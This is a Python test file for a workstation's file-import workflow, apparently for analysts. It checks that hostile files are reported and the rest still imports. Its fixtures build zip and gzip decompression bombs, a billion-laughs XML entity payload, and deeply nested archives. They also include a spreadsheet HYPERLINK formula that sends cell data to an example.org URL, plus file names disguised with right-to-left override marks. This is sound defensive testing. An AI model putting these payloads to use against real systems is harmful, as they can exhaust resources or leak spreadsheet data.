"""Imports of what was sent to do harm, or came to harm: what the analyst reads of each, and that the rest comes in."""

import gzip
import io
import json
import os
import sys
import time
import zipfile
from pathlib import Path

import fake_analysis
import psutil
import pytest
from made_documents import BILLION_LAUGHS, docx, paragraph, zipped
from made_outlook import compound_file

from workstation import workflow
from workstation.case.file import Case
from workstation.core.progress import Ticket
from workstation.import_report import FAILED, RowState
from workstation.workflow import import_paths

TEXT = "قتل خمسة مدنيين في قصف على سوق البلدة صباح اليوم"
MEGABYTE = 1 << 20


@pytest.fixture(autouse=True)
def _fake_pipeline(monkeypatch):
    monkeypatch.setattr(workflow, "Pipeline", lambda load: load)


@pytest.fixture
def case(tmp_path):
    case = Case.create(tmp_path / "test.rasid")
    yield case
    case.close()


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    return folder


def bring_in(case, *paths, ticket=None):
    return import_paths(paths, case, fake_analysis.prepare, ticket or Ticket(), jobs=1)


def told(report, folder):
    """What the report says of each file, by its name below the folder."""
    return {Path(row.path).relative_to(folder).as_posix(): row for row in report.rows}


# --- what was made to do harm


def test_what_was_made_to_do_harm_is_told_and_the_rest_comes_in(case, folder):
    laughs = docx(paragraph("&h;"), before=BILLION_LAUGHS)
    nested = zipped({"a.txt": TEXT})
    for _ in range(6):
        nested = zipped({"inner.zip": nested})
    made = {
        "a-good.txt": TEXT.encode(),
        "bomb.txt.gz": gzip.compress(b"a" * 300_000_000, 1),
        "bomb.zip": zipped({"a.txt": b"a" * 300_000_000}),
        "deep.zip": nested,
        "laughs.docx": laughs,
        "locked.docx": compound_file({"EncryptionInfo": b"x" * 100, "EncryptedPackage": b"x" * 6000}),
        "locked.xlsx": compound_file({"EncryptionInfo": b"x" * 100, "EncryptedPackage": b"x" * 6000}),
        "locked.xls": compound_file({"Workbook": _locked_workbook()}),
        "cut.docx": docx(paragraph(TEXT))[:300],
        "nothing.pdf": b"",
        "z-good.txt": (TEXT + " آخر").encode(),
    }
    for name, data in made.items():
        (folder / name).write_bytes(data)
    began = time.monotonic()

    rows = told(bring_in(case, folder), folder)

    assert time.monotonic() - began < 60
    says = {name: (row.state, row.sentence) for name, row in rows.items()}
    assert says["a-good.txt"][0] is says["z-good.txt"][0] is RowState.ADDED
    for name in ("bomb.txt.gz", "bomb.zip"):
        assert says[name] == (RowState.REFUSED, "This file in the archive is larger than 200 MB."), name
    assert "too many archives deep" in says["deep.zip"][1]
    assert "DOCTYPE" in says["laughs.docx"][1]
    for name in ("locked.docx", "locked.xlsx", "locked.xls"):
        assert says[name] == (RowState.NEEDS_PASSWORD, "This document is protected: it needs a password."), name
    assert "damaged" in says["cut.docx"][1]
    assert says["nothing.pdf"] == (RowState.UNREADABLE, "This file is empty.")
    assert set(rows) == set(made), "every file has its row"
    assert all(row.hint for row in rows.values() if row.state in FAILED and row.sentence != "This file is empty.")


def _locked_workbook() -> bytes:
    first = bytes.fromhex("0908100000060500") + bytes(12)
    return first + bytes.fromhex("2f003600") + b"\1\0" + bytes(52) + bytes.fromhex("0a000000") + bytes(5_000)


@pytest.mark.skipif(sys.platform == "win32", reason="links of files need rights there")
def test_a_line_of_two_hundred_megabytes_is_told_whatever_it_is_called(case, folder, tmp_path):
    whole = tmp_path / "line"
    with whole.open("wb") as line:
        for _ in range(210):
            line.write((TEXT + " ").encode()[:64] * (MEGABYTE // 64))
    names = ["a.txt", "b.csv", "c.html", "d.json", "e.jsonl", "f.rtf", "g.md", "h.mhtml", "i.tsv", "j.eml"]
    for name in names:
        os.link(whole, folder / name)
    (folder / "z.txt").write_text(TEXT, encoding="utf-8")
    began, before = time.monotonic(), psutil.Process().memory_info().rss

    rows = told(bring_in(case, folder), folder)

    assert time.monotonic() - began < 60
    assert psutil.Process().memory_info().rss - before < 300 * MEGABYTE
    assert set(rows) == {*names, "z.txt"}
    assert rows["z.txt"].state is RowState.ADDED
    for name in names:
        assert "too l" in rows[name].sentence, (name, rows[name].sentence)  # too large, too long


def test_formulas_of_a_table_are_words_in_the_case(case, folder):
    formula = '=HYPERLINK("http://example.org/?"&A1,"x")'
    quoted = formula.replace('"', '""')
    (folder / "a.csv").write_text(f'title,text\n"{quoted}","{TEXT}"\n', encoding="utf-8")

    (row,) = bring_in(case, folder).rows

    assert case.queries.article(row.article).article.title == formula


@pytest.mark.parametrize("kept", ["\u202e", "\u2066", "\u200f"])
def test_marks_that_turn_text_round_stay_in_the_text_and_go_from_names(case, folder, kept):
    text = f"قتل {kept}35 مدنيا في القصف"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(f"{kept}txt.exe.txt", text)
    (folder / "a.zip").write_bytes(packed.getvalue())

    (row,) = bring_in(case, folder).rows

    assert case.queries.article(row.article).article.text == text
    assert kept not in row.member
    assert row.member.endswith("txt.exe.txt")


def test_zeros_and_halves_of_characters_are_replaced_one_for_one(case, folder):
    record = json.dumps({"text": "قتل \ud800 خمسة \x00 جنود"})
    (folder / "a.jsonl").write_text(record, encoding="ascii")

    (row,) = bring_in(case, folder).rows

    assert case.queries.article(row.article).article.text == "قتل \ufffd خمسة \ufffd جنود"
    assert "2 code points" in row.notes[0]


# --- names


def test_names_with_every_odd_character_are_shown_on_one_line(case, folder):
    odd = [
        "a\nb",
        "-rf",
        "CON",
        "a\tb",
        "q\"uo'te",
        "<img src=x>",
        "صورة\u202egpj",
        "\U0001f4a3",
        "a" * 240,
        "a .",
        "%00",
        "*?",
    ]
    odd += ["\ud83d", "\udcff\udcfe"]
    written = []
    for number, name in enumerate(odd):
        try:
            (folder / f"{name}.txt").write_text(f"{TEXT} {number}", encoding="utf-8")
            written.append(name)
        except (OSError, ValueError):
            continue  # this system has no such names

    report = bring_in(case, folder)

    assert len(report.rows) == report.count(RowState.ADDED) == len(written)
    for row in report.rows:
        assert row.name.isprintable() or "\ufffd" in row.name
        assert not set(row.name) & set("\n\r\t\x00\u202e\u2066")
        row.name.encode()
    kept = {case.queries.article(row.article).article.text for row in report.rows}
    assert len(kept) == len(written)


# --- what happens while it goes on


def test_files_that_vanish_or_change_during_an_import_are_told(case, folder, monkeypatch):
    for name in "abcdef":
        (folder / f"{name}.txt").write_text(f"{TEXT} {name}", encoding="utf-8")
    (folder / "g").mkdir()
    (folder / "g" / "h.txt").write_text(TEXT, encoding="utf-8")
    (folder / "i.jsonl").write_text("".join(json.dumps({"text": f"{TEXT} {n}"}) + "\n" for n in range(300)))
    files_meant, calls = workflow.files_meant, []

    def meddled_with(inputs):
        """Once the files are counted and the first is read, others go, or are others."""
        calls.append(inputs)
        for number, item in enumerate(files_meant(inputs)):
            yield item
            if number == 0 and len(calls) == 2:
                (folder / "c.txt").unlink()
                (folder / "d.txt").write_bytes(b"")
                (folder / "e.txt").unlink()
                (folder / "e.txt").mkdir()
                (folder / "g" / "h.txt").unlink()
                (folder / "g").rmdir()
                (folder / "i.jsonl").write_bytes((folder / "i.jsonl").read_bytes()[:5_000])

    monkeypatch.setattr(workflow, "files_meant", meddled_with)

    report = bring_in(case, folder)

    rows = {Path(row.path).name if row.path else Path(row.name).name: row for row in report.rows if not row.member}
    assert rows["c.txt"].sentence == "There is no such file."
    assert rows["d.txt"].sentence == "This file is empty."
    assert "folder" in rows["e.txt"].sentence
    assert [rows[f"{name}.txt"].state for name in "abf"] == [RowState.ADDED] * 3
    assert "could not be listed" in rows["g"].sentence
    records = [row for row in report.rows if row.path.endswith("i.jsonl")]
    assert [row.state for row in records[:-1]] == [RowState.ADDED] * (len(records) - 1)
    assert records[-1].state is RowState.UNREADABLE
    assert "is no JSON" in records[-1].sentence
    assert case.queries.summary().articles == report.in_case


def test_a_folder_without_permission_is_told_and_the_rest_comes_in(case, folder, monkeypatch):
    shut, scandir = folder / "b-shut", os.scandir
    shut.mkdir()
    for name in ("a.txt", "c.txt"):
        (folder / name).write_text(f"{TEXT} {name}", encoding="utf-8")

    def refusing(path):
        if Path(path) == shut:
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refusing)

    report = bring_in(case, folder)

    assert [row.state for row in report.rows] == [RowState.ADDED, RowState.UNREADABLE, RowState.ADDED]
    assert report.rows[1].sentence == "This folder could not be listed: Permission denied."
    assert report.rows[1].hint
